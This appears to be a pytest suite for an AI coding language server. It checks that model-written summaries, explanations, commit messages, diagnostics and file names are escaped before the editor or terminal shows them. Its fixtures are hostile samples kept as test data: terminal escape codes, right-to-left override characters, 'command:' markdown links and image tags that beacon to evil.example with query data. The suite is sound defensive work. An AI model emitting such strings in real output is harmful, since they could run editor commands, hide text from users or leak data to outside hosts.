"""What the model says is shown and steers nothing: no terminal, no link that runs a command, no picture fetched."""

from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from lsprotocol import types

from kimi_lsp.conversation import Image, Media
from kimi_lsp.features import Service, described
from kimi_lsp.prompt import Target, task
from kimi_lsp.text import Snapshot, Span
from tests.cli.running import FIX, FIXED, run
from tests.support.answering import Answering
from tests.support.editor import Editor, editor, profile
from tests.support.pictures import png
from tests.support.repository import git, repository

SOURCE = "def total(lines):\n    return sum(lines)\n"
EVIL = "Done.\x1b[2J \u202eenod\u202c [Details](command:workbench.action.terminal.new)"
SAFE = "Done.\\x1b[2J \\u202eenod\\u202c [Details] (command:workbench.action.terminal.new)"
EVIL_MARKDOWN = (
    "# It adds up\n\n[Run it](command:a.b) ![](https://evil.example/?q=total) \x1b]0;x\x07\u202e\n\n"
    '<img src="https://evil.example/y"> [docs](https://docs.python.org)\n'
)


@pytest_asyncio.fixture
async def model() -> AsyncGenerator[Answering, None]:
    answering = Answering()
    async with answering.listening():
        yield answering


def answer(search: str, summary: str = EVIL) -> dict[str, Any]:
    edit = {"file": "", "search": search, "replace": "    return len(lines)\n", "line": None}
    return {"summary": summary, "edits": [edit]}


def harmless(text: str) -> None:
    for part in ("\x1b", "\x07", "\u202e", "\u202c", "](command:", "](https://evil", "<img src"):
        assert part not in text


async def refactor(ed: Editor) -> dict[str, Any]:
    uri = ed.put("cart.py", SOURCE)
    told: dict[str, Any] = await ed.run("kimi.refactor", ed.place(uri, "return sum"))
    return told


@pytest.mark.parametrize("client", ["vscode-1.100.3", "emacs-28.2-eglot-1.9"])
async def test_a_summary_is_only_words(client: str, model: Answering, tmp_path: Path) -> None:
    model.answers(answer("    return sum(lines)\n"))
    async with editor(model.environ, tmp_path, profile(client), commands="attached", preview="never") as ed:
        told = await refactor(ed)
        assert told["status"] == "ok"
        assert told["message"].startswith(SAFE)
        for text in (told["message"], str(ed.progress), str(ed.asked), str(ed.messages)):
            harmless(text)
        if client.startswith("vscode"):
            assert any(SAFE in str(one.message) for one in ed.progress)
            (asked,) = ed.asked
            assert [one.description for one in (asked.edit.change_annotations or {}).values()] == [SAFE]


async def test_a_detached_editor_s_message_is_only_words(model: Answering, tmp_path: Path) -> None:
    model.answers(answer("    return sum(lines)\n"))
    async with editor(model.environ, tmp_path, profile("emacs-28.2-eglot-1.9"), commands="detached") as ed:
        await refactor(ed)
        while not any(SAFE in message for message in ed.messages):
            await ed.client.wait_for_notification("window/showMessage")
        for message in ed.messages:
            harmless(message)


async def test_a_refusal_that_quotes_the_model_is_only_words(model: Answering, tmp_path: Path) -> None:
    """A path of the model's is quoted in the sentence of a refusal."""
    evil = {"file": "[x](command:a.b)\u202e.py", "search": "a\n", "replace": "b\n", "line": None}
    model.answers(*[{"summary": "", "edits": [evil]}] * 2)
    async with editor(model.environ, tmp_path) as ed:
        told = await refactor(ed)
        assert told["status"] == "refused"
        assert "[x] (command:a.b)" in told["message"]
        for text in (told["message"], str(ed.messages), str(ed.progress)):
            harmless(text)


async def test_a_question_is_only_words(model: Answering, tmp_path: Path) -> None:
    model.answers(answer("    return sum(lines)\n"))
    async with editor(
        model.environ, tmp_path, profile("neovim-0.11.4"), commands="attached", preview="always"
    ) as ed:
        await refactor(ed)
        (question,) = ed.questions
        assert SAFE in question.message
        harmless(question.message)


async def test_a_question_about_a_problem_is_only_words(model: Answering, tmp_path: Path) -> None:
    """It begins with the words of a diagnostic, which come from what another tool read."""
    model.answers(answer("    return sum(lines)\n"))
    async with editor(
        model.environ, tmp_path, profile("neovim-0.11.4"), commands="attached", preview="always"
    ) as ed:
        uri = ed.put("cart.py", SOURCE)
        found = ed.diagnostic(uri, "sum", "\u202eno [x](command:a.b)")
        await ed.run("kimi.fix", ed.place(uri, "sum", diagnostics=[found]))
        (question,) = ed.questions
        assert "[x] (command:a.b)" in question.message
        harmless(question.message)


@pytest.mark.parametrize("client", ["vscode-1.100.3", "neovim-0.11.4", "emacs-28.2-eglot-1.9"])
async def test_an_explanation_fetches_and_runs_nothing(client: str, model: Answering, tmp_path: Path) -> None:
    model.says = [EVIL_MARKDOWN]
    environ = {**model.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    ui = {"markdown": client.startswith("vscode")}
    async with editor(environ, tmp_path, profile(client), commands="attached", ui=ui) as ed:
        uri = ed.put("cart.py", SOURCE)
        told = await ed.run("kimi.explain", ed.place(uri, "return sum"))
        files = [file.read_text("utf-8") for file in tmp_path.glob("cache/**/*.md")]
        shown = [told.get("markdown", ""), *files, *ed.messages]
        assert any("It adds up" in text for text in shown)
        assert any("docs.python.org" in text for text in shown)
        for text in shown:
            harmless(text)


async def test_a_commit_message_that_ends_its_fence_runs_nothing(model: Answering, tmp_path: Path) -> None:
    """An editor that is not waited for is shown it as a document."""
    model.says = ["Add it\n\n```\n\n[Run it](command:a.b) ![](https://evil.example/?q=x)\n"]
    environ = {**model.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    root = repository(tmp_path / "root", {"a.py": "x = 1\n"})
    (root / "a.py").write_text("x = 2\n")
    git(root, "add", "a.py")
    async with editor(environ, root, profile("neovim-0.11.4"), commands="detached") as ed:
        await ed.run("kimi.commitMessage", {})
        while not ed.messages:
            await ed.client.wait_for_notification("window/showMessage")
        (text,) = [file.read_text("utf-8") for file in tmp_path.glob("cache/**/*.md")]
        assert "Run it" in text
        harmless(text)


async def test_a_remark_on_a_workspace_s_settings_is_only_words(model: Answering, tmp_path: Path) -> None:
    (tmp_path / ".kimi-lsp.toml").write_text('"[x](command:a.b)" = 1\n', "utf-8")
    async with editor(model.environ, tmp_path, commands="attached") as ed:
        while not ed.messages:
            # An answer comes after what was said before it.
            await ed.run("kimi.cancel", {})
        assert "[x] (command:a.b)" in str(ed.messages)
        harmless(str(ed.messages))


async def test_a_menu_is_only_words(model: Answering, tmp_path: Path) -> None:
    """The words of a diagnostic come from what another tool read."""
    async with editor(model.environ, tmp_path) as ed:
        uri = ed.put("cart.py", SOURCE)
        structure = ed.client.protocol._converter.structure
        found = structure(ed.diagnostic(uri, "sum", "no \u202e\x1b[2J name"), types.Diagnostic)
        (fix, *_) = await ed.menu(uri, found.range, [found])
        assert fix.title == "Kimi: Fix “no \\u202e\\x1b[2J name”"
        assert fix.command is not None
        assert fix.command.title == fix.title


async def test_a_label_is_only_words(model: Answering, tmp_path: Path) -> None:
    """What the undo list shows is made of a diagnostic's words."""
    model.answers(answer("    return sum(lines)\n"))
    async with editor(model.environ, tmp_path) as ed:
        uri = ed.put("cart.py", SOURCE)
        found = ed.diagnostic(uri, "sum", "\u202eno [x](command:a.b)")
        assert (await ed.run("kimi.fix", ed.place(uri, "sum", diagnostics=[found])))["status"] == "ok"
        (asked,) = ed.asked
        for label in (asked.label, *(one.label for one in (asked.edit.change_annotations or {}).values())):
            assert "[x] (command:a.b)" in str(label)
            harmless(str(label))


async def test_progress_is_only_words(model: Answering, tmp_path: Path) -> None:
    """A picture's name is the workspace's; it is shown while the model is waited for."""
    model.says = ["It adds up."]
    name = "[x](command:a.b)\u202e.png"
    (tmp_path / name).write_bytes(png(3, 2))
    async with editor(model.environ, tmp_path, ui={"markdown": True}) as ed:
        uri = ed.put("cart.py", SOURCE)
        told = await ed.run("kimi.explain", ed.place(uri, "sum", images=[name]))
        assert told["status"] == "ok"
        assert "[x] (command:a.b)\\u202e.png" in " ".join(str(one.message) for one in ed.progress[1:])
        harmless(" ".join(str(one.message) for one in ed.progress[1:]))


def test_the_table_of_a_shown_request_is_only_words() -> None:
    """Above every word of the request it names what is in it, pictures by the names that the workspace gave them."""
    target = Target(Snapshot("file:///a.py", 1, "python", SOURCE), Span(0, 0), "a.py", 64_000, 16_384)
    picture = Media(
        "|[x](command:a.b)![](https://evil/)\u202e\n<img src=//evil>.png", Image("image/png", png(3, 2))
    )
    prompt = task("explain", target, media=[picture])
    (row,) = [line for line in described(prompt, Service("u", "m", "chat")).split("\n") if "named" in line]
    assert row.startswith(
        "| image | \\|[x] (command:a.b)![] (https://evil/)\\u202e < img src=//evil>.png (1 KiB), which you named | "
    )
    harmless(row)


@pytest.mark.parametrize("as_json", [False, True])
async def test_a_terminal_is_not_steered(as_json: bool, model: Answering, tmp_path: Path) -> None:
    cart = tmp_path / "cart.py"
    cart.write_text(FIXED.replace("import json\n", ""), "utf-8")
    evil = {"file": "", "search": "", "replace": "", "line": None}
    edit = {
        **evil,
        "search": "def total(lines: list[int]) -> str:\n",
        "replace": "def \x1b[2J\u202etotal():\n",
    }
    model.answers({"summary": EVIL, "edits": [edit]})
    ran = await run("fix", str(cart), *FIX, *(("--json",) if as_json else ()), environ=model.environ)
    harmless(ran.out.replace("](command:", "") if as_json else ran.out)
    harmless(ran.err)
    assert "\\x1b[2J" in ran.out or "\\u001b[2J" in ran.out
